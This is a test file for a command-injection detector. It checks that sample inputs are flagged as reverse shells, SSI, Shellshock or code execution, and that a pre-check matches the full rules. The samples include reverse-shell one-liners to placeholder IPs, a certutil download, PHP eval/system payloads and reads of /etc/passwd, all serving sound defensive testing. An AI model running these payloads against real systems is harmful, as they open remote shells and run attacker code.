import { describe, expect, it } from 'vitest';
import { detectCmdi, detectCmdiReadingAll } from '../../../src/policies/inspection/scan/cmdi.js';
import { triggerMask } from '../../../src/policies/inspection/scan/triggers.js';
import { agreesWithFullReading } from '../../support/precheck.js';

/** Every trigger: each rule reads the value whatever its triggers say. */
const ALL = (1 << 27) - 1;

describe('detectCmdi on chat-length values that hold what a rule read anywhere needs', () => {
  it('reads the reverse shells, SSI, PHP and code execution after prose', () => {
    expect(detectCmdi('see this: bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', ALL)).toBe('cmdi.reverse-shell');
    expect(detectCmdi('see this: rm /tmp/f;mkfifo /tmp/f', ALL)).toBe('cmdi.reverse-shell');
    expect(detectCmdi('see this: nc -e /bin/sh 10.0.0.1 80', ALL)).toBe('cmdi.reverse-shell');
    expect(detectCmdi('see this: certutil -urlcache -f http://x/a.exe', ALL)).toBe('cmdi.reverse-shell');
    expect(detectCmdi('see this: $sock=fsockopen("10.0.0.1",80)', ALL)).toBe('cmdi.reverse-shell');
    expect(detectCmdi('see this: <!--#exec cmd="ls" -->', ALL)).toBe('cmdi.ssi');
    expect(detectCmdi('see this: {${phpinfo()}}', ALL)).toBe('cmdi.code-exec');
    expect(detectCmdi('see this: () { :;}; echo', ALL)).toBe('cmdi.shellshock');
    expect(detectCmdi('see this: <?php eval($x) ?>', ALL)).toBe('cmdi.code-exec');
  });

  it('reads a call with a string or request input after its bracket, or phpinfo', () => {
    expect(detectCmdi("see this: system('id')", ALL)).toBe('cmdi.code-exec');
    expect(detectCmdi('see this: exec ( "id")', ALL)).toBe('cmdi.code-exec');
    expect(detectCmdi('see this: os.system($_get[1])', ALL)).toBe('cmdi.code-exec');
    expect(detectCmdi('see this: phpinfo ()', ALL)).toBe('cmdi.code-exec');
    expect(detectCmdi('see this: system(id)', ALL)).toBeNull();
    expect(detectCmdi('see this (attached file: x.pdf)', ALL)).toBeNull();
  });
});

/**
 * The pre-check against the rules it stands for: values read with it and with every rule run (`detectCmdiReadingAll`)
 * get the same verdict, with every trigger and with their own. The values are made to reach the pre-check's edges
 * (prose, then the literals the rules read anywhere, near misses of them and the punctuation around them), plus
 * every line of the corpus. A rule that changes without the pre-check fails here.
 */
describe('the command-injection pre-check agrees with reading every value in full', () => {
  const PIECES = [
    '/dev/tcp/1.2.3.4/80', '/dev/udp/', '/dev/', 'mkfifo /tmp/f', '/tmp/', 'bitsadmin /transfer', '/transfer', '/tr',
    '-e /bin/sh', '-e cmd', '-e ', 'certutil -urlcache', '-urlcache', 'fsockopen(', 'pty.spawn(', 'downloadstring(',
    'socket(s,pf_inet', '(s,pf_inet', '<!--#exec cmd="id"', '<!--#include', '<!--', '<?php system($x)', '<?=', '<?',
    '{${', '{$_get[', '{$_post[', '{$', '${@', '@{[', '>&', 'bash -i', '() { :;};', '()  {', '() ', 'system(',
    'exec(', 'eval(', 'passthru(', 'shell_exec(', 'os.system(', 'subprocess.call(', 'runtime.getruntime().exec(',
    'child_process.exec(', 'execsync(', '%x(', 'phpinfo(', 'phpinfo ', 'phpversion(', 'php', 'include(', '$_get',
    '$_', "'id'", '"id"', '`id`', 'id', 'whoami', 'cat /etc/passwd', 'ls -la', 'echo hi', 'the', 'a', 'see', 'file',
    'x.pdf', 'http://a.b/c?d=e&f=g', '&#39;', 'and',
  ];
  const PUNCTUATION = [
    ';', ' ; ', '|', '||', '&', ' & ', '&&', '\n', '\r', '(', ')', '()', '{', '}', '[', ']', '<', '>', '?', '!', '$',
    '@', "'", '"', '`', '-', '/', '\\', '=', ':', ',', '.', ' ', ' ', '\t', '#', '%',
  ];
  const STARTS = ['', '', 'see this: ', 'a ', "it's ", '"x" ', 'x;', ' & ', 'http://a.b/c?d=e&f ', '\n'];
  agreesWithFullReading({
    seed: 20_251_202,
    shapes: { starts: STARTS, pieces: PIECES, punctuation: PUNCTUATION, maxParts: 12, pieceShare: 0.5, spaceShare: 0.5 },
    contexts: (v) => [ALL, triggerMask(v)],
    checked: detectCmdi,
    full: detectCmdiReadingAll,
    foundIn: ALL,
  });
});
